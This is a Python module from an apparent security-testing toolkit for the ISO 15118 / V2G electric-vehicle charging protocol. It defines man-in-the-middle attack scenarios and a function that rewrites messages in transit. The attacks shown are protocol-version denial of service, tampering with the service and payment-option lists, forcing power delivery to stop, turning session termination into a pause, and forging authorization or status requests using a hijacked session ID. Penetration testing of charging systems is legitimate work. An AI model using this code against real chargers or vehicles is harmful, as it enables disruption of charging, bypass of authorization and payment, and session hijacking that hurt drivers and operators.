#    Copyright 2026 Genesis Corporation.
#
#    All Rights Reserved.
#
#    Licensed under the Apache License, Version 2.0 (the "License"); you may
#    not use this file except in compliance with the License. You may obtain
#    a copy of the License at
#
#         http://www.apache.org/licenses/LICENSE-2.0
#
#    Unless required by applicable law or agreed to in writing, software
#    distributed under the License is distributed on an "AS IS" BASIS, WITHOUT
#    WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the
#    License for the specific language governing permissions and limitations
#    under the License.

from __future__ import annotations

import dataclasses
import enum

from gcl_v2g.attacks import exceptions as attack_exc
from gcl_v2g.common import constants
from gcl_v2g.messages import models

DEFAULT_PROXY_PORT = 15119

# Requests without fields, so that they can be fabricated from nothing.
FORGEABLE_KINDS = frozenset(
    cls.kind()
    for cls in (
        models.ServiceDiscoveryReq,
        models.AuthorizationReq,
        models.CableCheckReq,
        models.ChargingStatusReq,
        models.WeldingDetectionReq,
    )
)


class ScenarioKind(str, enum.Enum):
    PASSTHROUGH_LOGGER = "PassthroughLogger"
    SDP_PORT_REWRITE = "SdpPortRewrite"
    DOS_VERSION_REWRITE = "DosVersionRewrite"
    SERVICE_LIST_TAMPER = "ServiceListTamper"
    POWER_DELIVERY_STOP = "PowerDeliveryStop"
    BLACKHOLE = "Blackhole"
    PAYMENT_OPTION_TAMPER = "PaymentOptionTamper"
    SESSION_STOP_PAUSE = "SessionStopPause"
    FORGED_REQUEST = "ForgedRequest"

    def __str__(self) -> str:
        return self.value


@dataclasses.dataclass(frozen=True)
class AttackScenario:
    kind: ScenarioKind = ScenarioKind.PASSTHROUGH_LOGGER
    # SdpPortRewrite
    new_port: int = DEFAULT_PROXY_PORT
    rewrite_address: bool = False
    # DosVersionRewrite
    major: int = 0
    minor: int = 0
    # ServiceListTamper
    add_modes: tuple[models.EnergyTransferMode, ...] = ()
    remove_modes: tuple[models.EnergyTransferMode, ...] = ()
    # PaymentOptionTamper; empty removes every option
    remove_payment_options: tuple[models.PaymentOption, ...] = ()
    # ForgedRequest
    forged_kind: str = models.AuthorizationReq.kind()
    use_observed_session: bool = False
    secc_port: int = constants.V2G_SECC_PORT

    def __post_init__(self) -> None:
        if not 0 < self.new_port < 65536:
            raise attack_exc.InvalidScenario(reason=f"bad port {self.new_port}")
        if self.major < 0 or self.minor < 0:
            raise attack_exc.InvalidScenario(reason="negative protocol version")
        if self.forged_kind not in FORGEABLE_KINDS:
            raise attack_exc.InvalidScenario(
                reason=f"{self.forged_kind} cannot be forged"
            )
        if (
            self.kind is ScenarioKind.SERVICE_LIST_TAMPER
            and not self.add_modes
            and not self.remove_modes
        ):
            raise attack_exc.InvalidScenario(
                reason="ServiceListTamper needs modes to add or remove"
            )

    @property
    def intercept_port(self) -> int:
        if self.kind is ScenarioKind.SDP_PORT_REWRITE:
            return self.new_port
        return self.secc_port

    def to_dict(self) -> dict:
        data = {"kind": self.kind.value}
        if self.kind is ScenarioKind.SDP_PORT_REWRITE:
            data.update(newPort=self.new_port, rewriteAddress=self.rewrite_address)
        elif self.kind is ScenarioKind.DOS_VERSION_REWRITE:
            data.update(major=self.major, minor=self.minor)
        elif self.kind is ScenarioKind.SERVICE_LIST_TAMPER:
            data.update(
                add=[m.value for m in self.add_modes],
                remove=[m.value for m in self.remove_modes],
            )
        elif self.kind is ScenarioKind.PAYMENT_OPTION_TAMPER:
            data.update(remove=[o.value for o in self.remove_payment_options])
        elif self.kind is ScenarioKind.FORGED_REQUEST:
            data.update(
                forgedKind=self.forged_kind,
                useObservedSession=self.use_observed_session,
            )
        return data


def rewrite_message(
    scenario: AttackScenario,
    message: models.V2GMessage,
    observed_session: models.SessionId | None = None,
) -> models.V2GMessage | None:
    """The tampered message, or None when the scenario leaves it alone."""
    body = message.body
    kind = scenario.kind

    if kind is ScenarioKind.DOS_VERSION_REWRITE and isinstance(
        body, models.SupportedAppProtocolReq
    ):
        offers = tuple(
            dataclasses.replace(
                offer,
                version_number_major=scenario.major,
                version_number_minor=scenario.minor,
            )
            for offer in body.app_protocols
        )
        return dataclasses.replace(
            message, body=dataclasses.replace(body, app_protocols=offers)
        )

    if kind is ScenarioKind.SERVICE_LIST_TAMPER and isinstance(
        body, models.ServiceDiscoveryRes
    ):
        removed = scenario.remove_modes
        modes = [m for m in body.energy_transfer_modes if m not in removed]
        modes.extend(m for m in scenario.add_modes if m not in modes)
        return dataclasses.replace(
            message,
            body=dataclasses.replace(body, energy_transfer_modes=tuple(modes)),
        )

    if kind is ScenarioKind.PAYMENT_OPTION_TAMPER and isinstance(
        body, models.ServiceDiscoveryRes
    ):
        removed = scenario.remove_payment_options
        options = tuple(o for o in body.payment_options if removed and o not in removed)
        return dataclasses.replace(
            message, body=dataclasses.replace(body, payment_options=options)
        )

    if (
        kind is ScenarioKind.POWER_DELIVERY_STOP
        and isinstance(body, models.PowerDeliveryReq)
        and body.charge_progress is models.ChargeProgress.START
    ):
        return dataclasses.replace(
            message, body=models.PowerDeliveryReq(models.ChargeProgress.STOP)
        )

    if (
        kind is ScenarioKind.SESSION_STOP_PAUSE
        and isinstance(body, models.SessionStopReq)
        and body.termination_type is models.TerminationType.TERMINATE
    ):
        return dataclasses.replace(
            message, body=models.SessionStopReq(models.TerminationType.PAUSE)
        )

    if kind is ScenarioKind.FORGED_REQUEST and body.kind() == scenario.forged_kind:
        if scenario.use_observed_session and observed_session is not None:
            session_id = observed_session
        else:
            session_id = models.SessionId.zero()
        return models.V2GMessage(session_id, models.BODY_TYPES[scenario.forged_kind]())

    return None
